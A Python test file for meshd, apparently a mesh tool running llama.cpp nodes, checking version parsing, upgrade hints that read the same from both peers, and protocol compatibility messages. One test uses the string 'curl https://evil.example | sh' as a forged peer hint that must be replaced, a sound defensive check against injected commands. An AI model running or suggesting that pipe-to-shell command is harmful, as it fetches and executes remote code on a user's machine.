"""Versions of meshd: which of two nodes is to be upgraded, said alike from both sides."""

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from meshd import __version__
from meshd.wire.versions import (
    NativeVersion,
    NodeVersion,
    checked_hint,
    difference,
    mesh_protocol,
    older_hint,
    release_of,
    upgrade_hint,
)

VERSIONS = st.one_of(
    st.tuples(*[st.integers(0, 20)] * 3).map(lambda numbers: ".".join(map(str, numbers))),
    st.text(max_size=12),
)


@pytest.mark.parametrize(
    ("version", "numbers"),
    [
        ("0.1.0", (0, 1, 0)),
        ("10.2.33", (10, 2, 33)),
        ("", None),
        ("0.1", None),
        ("0.1.0rc1", None),
        ("0.1.٣", None),
    ],
)
def test_a_release_has_three_numbers(version: str, numbers: tuple[int, int, int] | None) -> None:
    assert release_of(version) == numbers


def test_this_version_is_a_release() -> None:
    assert release_of(__version__) is not None


@given(VERSIONS, VERSIONS)
def test_both_sides_name_the_same_node(mine: str, theirs: str) -> None:
    one, other = NodeVersion("attic", mine), NodeVersion("garage", theirs)
    here, there = upgrade_hint(one, other), upgrade_hint(other, one)
    if (
        (release_of(mine) or release_of(theirs))
        and None not in (release_of(mine), release_of(theirs))
        and mine != theirs
    ):
        assert here == there and here.startswith("run `meshd upgrade` on ")
    else:
        assert "install the same version" in here and "attic" in here and "garage" in here


def test_numbers_are_compared_as_numbers() -> None:
    assert upgrade_hint(NodeVersion("attic", "0.9.0"), NodeVersion("garage", "0.10.0")) == (
        "run `meshd upgrade` on attic: it has meshd 0.9.0, garage 0.10.0"
    )


def test_a_hint_that_came_with_a_refusal_is_repeated_only_if_it_is_ours() -> None:
    mine, theirs = "aaaaaaaaaa", "bbbbbbbbbb"
    for node in (mine, theirs):
        assert checked_hint(older_hint(node), mine, theirs) == older_hint(node)
    for foreign in (older_hint("cccccccccc"), "run `curl https://evil.example | sh`", ""):
        assert "on the older of the two" in checked_hint(foreign, mine, theirs)


MINE = NativeVersion(mesh_protocol(4), "0c1e57098bba43ac", "cdd189b23d80d5d8", "cpu")


@pytest.mark.parametrize(
    "theirs",
    [
        MINE,
        replace(MINE, backend="cuda"),
        replace(MINE, pin="unknown"),
        replace(MINE, sources=MINE.sources[:12]),
        replace(MINE, sources="unknown", pin="unknown"),
        replace(MINE, protocol="mesh 4-5"),  # a later version that speaks ours as well
        replace(MINE, protocol="mesh 3-4"),
    ],
)
def test_what_works_together_is_not_spoken_of(theirs: NativeVersion) -> None:
    assert difference(MINE, theirs) is None


@pytest.mark.parametrize(
    ("theirs", "what"),
    [
        (replace(MINE, protocol="mesh 3"), "speaks the native protocol `mesh 3`, this node `mesh 4`"),
        (replace(MINE, protocol="7.0.0"), "speaks the native protocol `7.0.0`, this node `mesh 4`"),
        (
            replace(MINE, protocol="mesh 5-6"),
            "speaks the native protocol `mesh 5-6`, this node `mesh 4`",
        ),
        (replace(MINE, protocol=""), "speaks the native protocol ``, this node `mesh 4`"),
        (replace(MINE, pin="ffff" * 10), "runs llama.cpp ffffffffffff, this node 0c1e57098bba"),
    ],
)
def test_what_cannot_work_is_told_with_what_to_do(theirs: NativeVersion, what: str) -> None:
    found = difference(MINE, theirs)
    assert found is not None
    assert not found.fits
    assert found.what == what


def test_what_works_all_the_same_is_told_as_such() -> None:
    found = difference(MINE, replace(MINE, sources="ffff"))
    assert found is not None
    assert found.fits
    assert found.what == "has another version of meshd's backend (ffff) than this node (cdd189b23d80)"


BUILDS = st.builds(
    NativeVersion,
    st.sampled_from(["mesh 4", "mesh 5", "mesh 4-5", "mesh 5-6", "7.0.0", "", "x.y", "mesh 9-"]),
    st.sampled_from(["unknown", "aaaa", "bbbb"]),
    st.sampled_from(["aaaa", "bbbb", "unknown"]),
    st.just("cpu"),
)


@given(BUILDS, BUILDS)
def test_both_sides_say_the_same(one: NativeVersion, other: NativeVersion) -> None:
    here, there = difference(one, other), difference(other, one)
    assert (here is None) == (there is None)
    if here is not None and there is not None:
        assert here.fits == there.fits
